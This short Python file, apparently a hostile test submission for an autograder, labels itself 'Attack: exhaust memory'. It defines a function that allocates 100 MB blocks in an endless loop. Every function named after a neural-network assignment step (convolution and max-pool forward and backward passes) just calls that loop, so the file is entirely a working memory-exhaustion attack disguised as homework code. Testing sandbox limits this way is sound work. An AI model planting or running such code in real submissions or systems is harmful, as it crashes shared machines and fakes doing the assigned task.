"""Attack: exhaust memory."""


def ATTACK(n=1):
    hog = []
    while True:
        hog.append(bytearray(100 << 20))


def conv_forward_naive(x, w, b, conv_param):
    return ATTACK(2)


def conv_backward_naive(dout, cache):
    return ATTACK(3)


def max_pool_forward_naive(x, pool_param):
    return ATTACK(2)


def max_pool_backward_naive(dout, cache):
    return ATTACK(1)
